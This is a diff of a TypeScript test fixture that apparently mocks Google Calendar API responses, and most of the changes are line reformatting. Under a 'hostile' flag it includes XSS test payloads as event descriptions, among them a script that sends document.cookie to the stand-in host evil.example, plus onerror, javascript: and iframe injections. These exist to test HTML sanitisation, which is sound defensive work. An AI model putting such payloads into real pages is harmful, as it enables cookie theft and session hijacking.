@@ -20,7 +20,7 @@ export type GoogleScenario =
   | "resetMidBody" // 200 headers and half of a normal list, then the connection drops
   | "oversized" // a normal list padded past 6 MB, streamed without Content-Length
   | "busy" // the normal events plus five daily series: 3,000 more events in the window
-  | "oddItems" // the normal events plus one with start.dateTime "not-a-real-date", one without a start, and two items Google's schema would never send
+  | "oddItems"; // the normal events plus one with start.dateTime "not-a-real-date", one without a start, and two items Google's schema would never send
 
 export type RecordedRequest = { method: string; path: string; query: URLSearchParams };
 
@@ -144,11 +144,17 @@ function makeEvents(calendarId: string, now: number, hostile: boolean): GoogleEv
 
   const events = [
     timed("farpast400", -400, "Too old to be in the window"),
-    timed("past300", -300, "Speaker Series: Hiring your first ten", { description: "Talk and Q&amp;A.<br>Drinks after.", location: "2 W 44th St, New York, NY" }),
+    timed("past300", -300, "Speaker Series: Hiring your first ten", {
+      description: "Talk and Q&amp;A.<br>Drinks after.",
+      location: "2 W 44th St, New York, NY",
+    }),
     allDay("past200allday", -200, 1, "Founders Demo Day"),
     timed("past30", -30, "Member Core Group Dinner", { description: "<b>Members only.</b><ul><li>Dinner</li><li>Hot seat</li></ul>" }),
     timed("cancelledpast", -20, "Cancelled social", { status: "cancelled" }),
-    timed("weeklycoffee_20260101T133000Z", -7, "Founder Coffee", { recurringEventId: "weeklycoffee", originalStartTime: { dateTime: estDateTime(at(-7)), timeZone: "America/New_York" } }),
+    timed("weeklycoffee_20260101T133000Z", -7, "Founder Coffee", {
+      recurringEventId: "weeklycoffee",
+      originalStartTime: { dateTime: estDateTime(at(-7)), timeZone: "America/New_York" },
+    }),
     timed("next7", 7, "Speaker Series: Pricing", { description: 'RSVP at <a href="https://example.org/rsvp">example.org</a>' }),
     allDay("retreat", 40, 3, "Founders Retreat"),
     timed("cancelledfuture", 45, "Cancelled workshop", { status: "cancelled" }),
@@ -160,9 +166,15 @@ function makeEvents(calendarId: string, now: number, hostile: boolean): GoogleEv
     events.push(
       timed("hostile1", 10, "Hostile script", { description: 'Hello<script>fetch("https://evil.example/?c="+document.cookie)</script>' }),
       timed("hostile2", 11, "Hostile onerror", { description: '<img src=x onerror="alert(1)">Image' }),
-      timed("hostile3", 12, "Hostile link", { description: '<a href="javascript:alert(1)">Click me</a> <iframe src="https://evil.example"></iframe>' }),
+      timed("hostile3", 12, "Hostile link", {
+        description: '<a href="javascript:alert(1)">Click me</a> <iframe src="https://evil.example"></iframe>',
+      }),
       // Google leaves `summary` out of an event saved without a title.
-      resource(calendarId, "untitled", { start: { date: isoDate(at(13, 12)) }, end: { date: isoDate(at(14, 12)) }, location: "https://meet.example.org/founders" }),
+      resource(calendarId, "untitled", {
+        start: { date: isoDate(at(13, 12)) },
+        end: { date: isoDate(at(14, 12)) },
+        location: "https://meet.example.org/founders",
+      }),
     );
   }
   return events;
